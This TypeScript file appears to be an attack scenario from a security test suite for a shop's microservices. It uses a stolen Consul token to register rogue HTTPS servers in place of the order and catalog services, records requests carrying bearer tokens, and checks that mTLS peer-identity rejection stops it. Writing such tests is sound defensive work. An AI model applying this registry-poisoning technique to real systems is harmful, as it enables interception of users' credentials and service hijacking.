// The registrar's token was stolen, with its certificate at Consul: the list of instances is the thief's to write. He
// puts a machine of his own in the place of order-1, and one more beside catalog-1, waits for customers' requests with
// their tokens, and sends them on as if he were only busy. His machine can prove that it is shipping, and nothing else.
import https from 'node:https'
import type { AddressInfo } from 'node:net'
import { events, eventually, freshAddress, type Visitor } from '../../shop.ts'
import { attack } from '../attack.ts'
import type { Held } from '../insider.ts'
import type { Scene } from '../scene.ts'
import { listed } from './write-registry.ts'

type Machine = { address: string; host: string; port: number; dialled(): number; tokens: string[]; close(): void }

/** Takes what comes and says what a gateway says whose service is busy, so that the caller asks another. */
async function machine({ key, certificate }: Held): Promise<Machine> {
  let dialled = 0
  const tokens: string[] = []
  const server = https.createServer({ key, cert: certificate, minVersion: 'TLSv1.3' }, (request, response) => {
    if (/^Bearer ey/.test(request.headers.authorization ?? '')) tokens.push(`${request.method} ${request.url?.split('?')[0]}`)
    response.writeHead(503, { 'content-type': 'application/problem+json' }).end('{"code":"service-unreachable","status":503}')
  })
  server.on('connection', () => { dialled += 1 })
  const host = freshAddress()
  await new Promise<void>((resolve) => server.listen(0, host, resolve))
  const { port } = server.address() as AddressInfo
  return { address: `${host}:${port}`, host, port, dialled: () => dialled, tokens, close: () => { server.close(); server.closeAllConnections() } }
}

let before = ''
let harm: string[] = []

async function lookAtCart(visitor: Visitor): Promise<void> {
  const { status, text } = await visitor.get('/api/cart')
  if (status !== 200) harm.push(`the cart: ${status} ${text.slice(0, 100)}`)
}

async function replace(scene: Scene): Promise<boolean> {
  harm = []
  before = await listed(scene, 'edge', 'order')
  const [thief, { held }] = await Promise.all([scene.insider('registrar'), scene.insider('shipping')])
  const visitor = scene.visitor()
  const product = (await visitor.get('/api/products?pageSize=20')).json.items.find((p: { stock: number }) => p.stock > 0).id as string
  await visitor.send('PUT', `/api/cart/lines/${product}`, { quantity: 1 })
  const [asOrder, asCatalog] = [await machine(held), await machine(held)]
  const consul = thief.atConsul()
  const write = async () => {
    for (const [service, id, { host, port }] of [['order', 'order-1', asOrder], ['catalog', 'catalog-9', asCatalog]] as const) {
      const answer = await consul.call(consul.server, 'PUT', '/v1/catalog/register', {
        headers: { 'x-consul-token': thief.held.places.consulToken }, body: JSON.stringify({ Node: id, Address: host, Service: { ID: id, Service: service, Address: host, Port: port } }),
      })
      if (answer.status !== 200) throw new Error(`the stolen token cannot write: ${answer.status} ${answer.text}`)
    }
  }
  try {
    const since = new Date().toISOString()
    /** The edge, too, comes to the false catalog, for others; this is about order. */
    const isOrderWarned = async () => (await events({ detection: 'MTLS-REJECT', limit: '1000', since })).some(({ source, data }) => source.startsWith('order-') && data.address === asCatalog.address)
    // A customer goes on as before, and the thief writes again what the registrar repairs, until both came to his machines.
    for (const until = Date.now() + 30_000; Date.now() < until && !(asOrder.dialled() && (asCatalog.tokens.length || await isOrderWarned()));) {
      await write()
      await lookAtCart(visitor)
    }
    const dialled = asOrder.dialled()
    for (let i = 0; i < 10; i++) await lookAtCart(visitor)
    scene.note({ dialled: { order: asOrder.dialled(), catalog: asCatalog.dialled() }, 'requests with a token': [...asOrder.tokens, ...asCatalog.tokens].slice(0, 10) })
    if (!dialled || !asCatalog.dialled()) throw new Error('nobody dialled the false addresses: nothing was tried')
    const isStolen = asOrder.tokens.length + asCatalog.tokens.length > 0
    if (!isStolen && asOrder.dialled() > dialled) harm.push('the edge dials the false order again: it was not ejected')
    scene.refused({ address: asOrder.address, source: 'edge' })
    scene.refused({ address: asCatalog.address, source: 'order-' })
    return isStolen
  } finally {
    for (const one of [asOrder, asCatalog]) one.close()
    await consul.close()
  }
}

attack({
  id: 'S3.4-c',
  strategies: ['S3.4', 'S7.2'],
  kind: 'attack',
  goal: 'receive requests for order with the tokens in them, by writing an address of one\'s own into the registry',
  without: 'peer-id',
  stopped: { code: 'peer-mismatch', detection: 'MTLS-REJECT' },
  isExclusive: true,
  run: replace,
  async isIntact(scene) {
    const started = Date.now()
    await eventually('the true list', async () => (await listed(scene, 'edge', 'order')) === before && (await listed(scene, 'edge', 'catalog')).includes('"catalog-9"') === false, 15_000)
    scene.note({ 'list repaired by the registrar after ms': Date.now() - started, harm })
    return harm.length === 0
  },
  async probe(scene) {
    const { status } = await scene.visitor().get('/api/cart')
    return status === 200
  },
})
